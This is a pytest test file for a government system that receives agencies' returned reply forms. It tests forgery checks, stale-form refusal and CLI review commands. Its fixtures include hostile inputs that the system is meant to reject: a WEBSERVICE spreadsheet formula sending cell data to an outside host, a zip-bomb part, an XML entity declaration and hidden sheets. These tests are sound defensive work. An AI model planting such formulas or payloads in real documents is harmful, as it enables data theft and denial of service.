"""What is believed of a returned form: only its issuer's own, for its own agency, as old as the last decision, plain values."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import asdict, replace
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.workbook import Workbook

from flows.adapters.folder_channel import FolderChannel
from flows.adapters.sql_ledger import SqlLedger
from flows.answering import take
from flows.cli import duban
from flows.form_key import forms
from flows.letters.errors import LetterError
from flows.letters.lifecycle import Step
from flows.letters.return_forms import Forms, Issue
from flows.receiving import accept, read_form, receive, turn_down, waiting
from flows.settings import load_settings
from tests.ledger.steps import AGENCIES, TEA, TEA_LEAD, enter
from tests.ledger.test_returns import DIRECTORY, FORMS, ISSUE, ONE, TODAY, as_json, desk, filled, put, state

SIGNED = {"办理意见": "签收"}
OTHER_AGENCY = "zj-ouxi-fin"


def test_a_form_that_nobody_issued_waits_for_a_person(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    forged = Forms(b"another key, of somebody else ..").issue(TEA_LEAD, "N1", TODAY)
    for name, data in (("真.json", as_json(form=asdict(forged))), ("假.xlsx", filled(ledger, "张某", SIGNED, issue=forged))):
        put(tmp_path, name, data)
        done = receive(tmp_path, desk(ledger))
        assert (done.forms, done.answers) == ({"review": 1}, 0)
        assert "校验码不符" in done.refused[0]
    document = json.loads(as_json())
    del document["form"]
    put(tmp_path, "无码.json", json.dumps(document).encode())
    assert "没有回执编号和校验码" in receive(tmp_path, desk(ledger)).refused[0]
    assert state(ledger) == "issued" and len(waiting(tmp_path)) == 3
    why = json.loads(waiting(tmp_path)[0].with_name(waiting(tmp_path)[0].name + ".why.json").read_text("utf-8"))
    assert "核实" in why["refused"][0]


def test_what_all_may_read_of_a_form_not_taken_finds_it_and_has_no_word_of_its_name(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    forged = Forms(b"another key, of somebody else ..").issue(TEA_LEAD, "N1", TODAY)
    put(tmp_path, "关于收回门面的答复.xlsx", b"PK")
    put(tmp_path, "关于收回门面的回执.json", as_json(form=asdict(forged)))
    done = receive(tmp_path, desk(ledger))
    assert sorted(fate for _, fate in done.aside) == ["refused", "review"]
    assert all(len(list((tmp_path / fate).glob(f"{digits}-*门面*.why.json"))) == 1 for digits, fate in done.aside)


def test_a_form_that_cannot_be_moved_stays_and_keeps_no_other_waiting(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    (tmp_path / "refused").write_bytes(b"where a folder should be")
    put(tmp_path, "一.xlsx", b"PK")
    put(tmp_path, "三.xlsx", filled(ledger, "张某", SIGNED))
    done = receive(tmp_path, desk(ledger))
    assert done.answers == 1 and done.unread == ["FileExistsError", "FileExistsError"]
    assert {path.name for path in tmp_path.iterdir()} == {"refused", "一.xlsx", "taken"}


def test_a_person_takes_or_turns_down_what_waits(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    document = json.loads(as_json())
    del document["form"]
    put(tmp_path, "一.json", json.dumps(document).encode())
    put(tmp_path, "二.json", json.dumps(document | {"by": "李某"}).encode())
    receive(tmp_path, desk(ledger))
    one, two = sorted(waiting(tmp_path), key=lambda path: path.name.endswith("二.json"))
    assert accept(one, desk(ledger), "督查室王某").answers == 1
    (step,) = [event for event in ledger.history_of(ONE) if event["action"] == "sign"]
    assert step["by"] == "张某（经督查室王某核实）"
    turn_down(two, desk(ledger), "督查室王某", "电话核实，非该单位所发")
    assert waiting(tmp_path) == [] and not list((tmp_path / "review").iterdir())
    (why,) = (tmp_path / "refused").glob("*.why.json")
    assert "电话核实" in why.read_text("utf-8") and why.with_name(why.name.removesuffix(".why.json")).exists()


def test_the_code_of_one_agency_speaks_for_no_other(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    put(tmp_path, "a.json", as_json(agency_id=TEA_LEAD, form=asdict(FORMS.issue(OTHER_AGENCY, "N1", TODAY))))
    assert receive(tmp_path, desk(ledger)).forms == {"review": 1}
    put(tmp_path, "b.json", as_json(form=asdict(replace(ISSUE, day="2026-03-06"))))
    assert receive(tmp_path, desk(ledger)).forms == {"review": 1}


def test_whoever_lost_the_matter_and_whoever_only_supports_cannot_report_it_done(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    support = next(s for s in TEA["statements"] if any(o["role"] == "support" and o["agency_id"] for o in s["owners"]))
    helper = next(o["agency_id"] for o in support["owners"] if o["role"] == "support")
    lead = next(o["agency_id"] for o in support["owners"] if o["role"] == "lead")
    take(ledger, DIRECTORY, Step(support["id"], "sign", "张某", TODAY, "owner", lead), f"{TODAY}T00:30:00Z")
    done = {"commitment_id": support["id"], "action": "done", "evidence": "验收单"}
    put(tmp_path, "配合.json", as_json(agency_id=helper, answers=[done]))
    assert "须由牵头单位办理" in receive(tmp_path, desk(ledger)).refused[0]

    moved = Step(ONE, "reassign", "督查室", TODAY, "office", None, {"agency_id": OTHER_AGENCY, "reason": "调整"})
    take(ledger, DIRECTORY, moved, f"{TODAY}T00:30:00Z")
    put(tmp_path, "原单位.json", as_json())
    assert "不是承诺" in receive(tmp_path, desk(ledger)).refused[0]
    assert (tmp_path / "refused").exists() and state(ledger) == "reassigned"


def test_a_form_older_than_the_offices_decision_is_refused_and_kept(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    for action, party, fields in (
        ("sign", "owner", {}), ("done", "owner", {"evidence": "单据"}), ("return", "office", {"reason": "缺附件"}),
    ):  # fmt: skip
        by = TEA_LEAD if party == "owner" else None
        take(ledger, DIRECTORY, Step(ONE, action, f"某{party}", date(2026, 3, 9), party, by, fields), "2026-03-09T01:00:00Z")
    old = filled(ledger, "张某", {"办理意见": "报告办结", "佐证材料": "单据"})
    put(tmp_path, "旧表.xlsx", old)
    done = receive(tmp_path, desk(ledger, date(2026, 3, 10)))
    assert done.forms == {"refused": 1} and "作出“退回”决定，请使用新的回执表" in done.refused[0]
    assert any(path.read_bytes() == old for path in (tmp_path / "refused").iterdir())
    fresh = FORMS.issue(TEA_LEAD, "N2", date(2026, 3, 9))
    put(tmp_path, "新表.xlsx", filled(ledger, "张某", {"办理意见": "报告办结", "佐证材料": "单据及附件"}, issue=fresh))
    assert receive(tmp_path, desk(ledger, date(2026, 3, 10))).forms == {"taken": 1}
    assert state(ledger) == "done_claimed"


def test_saved_again_without_a_change_it_counts_once(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    data = filled(ledger, "张某", SIGNED)
    put(tmp_path, "一.xlsx", data)
    receive(tmp_path, desk(ledger))
    book = openpyxl.load_workbook(io.BytesIO(data))
    book.properties.title = "另存"
    book.save(tmp_path / "二.xlsx")
    assert (tmp_path / "二.xlsx").read_bytes() != data
    assert receive(tmp_path, desk(ledger)).forms == {"known": 1}
    assert [event["action"] for event in ledger.history_of(ONE)].count("sign") == 1


def test_what_is_still_being_copied_waits(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    put(tmp_path, "一.xlsx", filled(ledger, "张某", SIGNED)[:2000])
    assert receive(tmp_path, desk(ledger), settled_seconds=3600).forms == {}
    assert (tmp_path / "一.xlsx").exists()


def _formula(book: Workbook) -> None:
    book.worksheets[0]["G5"] = '=WEBSERVICE("http://example.cn/"&A5)'


def _hidden_sheet(book: Workbook) -> None:
    book.create_sheet("别的").sheet_state = "veryHidden"


def _hidden_row(book: Workbook) -> None:
    book.worksheets[0].row_dimensions[6].hidden = True


def _other_name(book: Workbook) -> None:
    book.worksheets[0].title = "答复"


def _long(book: Workbook) -> None:
    book.worksheets[0]["A9000"] = "C1"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_formula, "G5含有公式"), (_hidden_sheet, "别的"), (_hidden_row, "隐藏的行或列（6）"),
        (_other_name, "没有工作表“回执”"), (_long, "9000行"),
    ],
)  # fmt: skip
def test_a_form_holds_plain_values_on_one_visible_sheet(
    ledger: SqlLedger, tmp_path: Path, change: Callable[[Workbook], None], said: str
) -> None:
    enter(ledger, TEA)
    book = openpyxl.load_workbook(io.BytesIO(filled(ledger, "张某", SIGNED)))
    change(book)
    book.save(tmp_path / "回执.xlsx")
    done = receive(tmp_path, desk(ledger))
    assert done.forms == {"refused": 1} and said in done.refused[0], done.refused
    assert state(ledger) == "issued"


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.namelist():
            new.writestr(member, content if member == name else old.read(member))
        if name not in old.namelist():
            new.writestr(name, content)
    return out.getvalue()


def test_what_unpacks_to_more_or_declares_entities_is_refused_unread(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    data = filled(ledger, "张某", SIGNED)
    put(tmp_path, "炸弹.xlsx", _with_part(data, "xl/media/image1.png", b"\0" * 60_000_000))
    put(tmp_path, "实体.xlsx", _with_part(data, "xl/workbook.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'))
    with (tmp_path / "大.xlsx").open("wb") as file:
        file.truncate(30_000_000)
    said = "\n".join(receive(tmp_path, desk(ledger)).refused)
    assert "展开后超过" in said and "文档类型声明" in said and "超过20MB" in said
    assert state(ledger) == "issued"


@given(cut=st.integers(0, 8000), at=st.integers(0, 8000), byte=st.integers(0, 255))
@settings(max_examples=60, deadline=None)
def test_a_damaged_form_is_refused_and_never_breaks_the_desk(
    tmp_path_factory: pytest.TempPathFactory, cut: int, at: int, byte: int
) -> None:
    book = Workbook()
    book.worksheets[0].title = "回执"
    out = io.BytesIO()
    book.save(out)
    data = bytearray(out.getvalue())
    data[at % len(data)] = byte
    path = tmp_path_factory.mktemp("f") / "x.xlsx"
    path.write_bytes(bytes(data) if cut > len(data) else bytes(data[:cut]))
    with pytest.raises(LetterError):
        read_form(path)


def test_every_notice_that_wants_an_answer_brings_a_form_that_is_known_again(ledger: SqlLedger, tmp_path: Path) -> None:
    enter(ledger, TEA)
    channel = FolderChannel(tmp_path / "outbox", FORMS)
    for notice in ledger.queued():
        channel.deliver(notice)
        form = (tmp_path / "outbox" / notice.agency_id / f"{notice.id}.xlsx").read_bytes()
        book = openpyxl.load_workbook(io.BytesIO(form))
        sheet = book.worksheets[0]
        assert FORMS.issued(notice.agency_id, Issue(*(sheet[cell].value for cell in ("D1", "D2", "D3"))))
    taken = ledger.claim(ledger.queued()[0].id, "d", f"{TODAY}T01:00:00Z", f"{TODAY}T01:02:00Z")
    assert taken is not None and taken.number is not None
    sheet = openpyxl.load_workbook(io.BytesIO(FORMS.of_notice(taken) or b"")).worksheets[0]
    assert f"随{taken.number}下发" in sheet["G1"].value
    (mine,) = [n for n in ledger.queued() if n.agency_id == TEA_LEAD and n.commitment_id == ONE]
    book = openpyxl.load_workbook(tmp_path / "outbox" / TEA_LEAD / f"{mine.id}.xlsx")
    book.worksheets[0]["B3"], book.worksheets[0]["E5"] = "张某", "签收"
    put(tmp_path / "returns", "回执.xlsx", b"")
    book.save(tmp_path / "returns" / "回执.xlsx")
    assert receive(tmp_path / "returns", desk(ledger)).forms == {"taken": 1}
    assert state(ledger) == "signed"


def test_the_key_is_made_once_for_its_owner_alone(tmp_path: Path) -> None:
    made = load_settings(home=tmp_path)
    issue = forms(made).issue("a", "N1", TODAY)
    assert forms(made).issued("a", issue)
    assert (tmp_path / "keys" / "forms").stat().st_mode & 0o077 == 0


def test_the_commands_show_take_and_turn_down(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DUBAN_HOME", str(tmp_path))
    monkeypatch.setenv("DUBAN_AGENCIES", str(AGENCIES))
    made = SqlLedger(load_settings().database_url)
    made.create()
    enter(made, TEA)

    def run(*arguments: str) -> Any:
        return CliRunner().invoke(duban, ["returns", *arguments])

    assert "没有待核实" in run("list").output
    for name in ("甲", "乙"):
        document = json.loads(as_json(by=name))
        del document["form"]
        put(tmp_path / "returns", f"{name}.json", json.dumps(document).encode())
    receive(tmp_path / "returns", desk(made))
    assert "甲" in run("list").output and "共2份" in run("list").output
    assert "已受理1项" in run("accept", "甲.json", "--by", "王某").output
    assert run("refuse", "乙.json", "--by", "王某", "--reason", "重复").exit_code == 0
    assert run("accept", "乙.json", "--by", "王某").exit_code == 1
    assert state(made) == "signed"
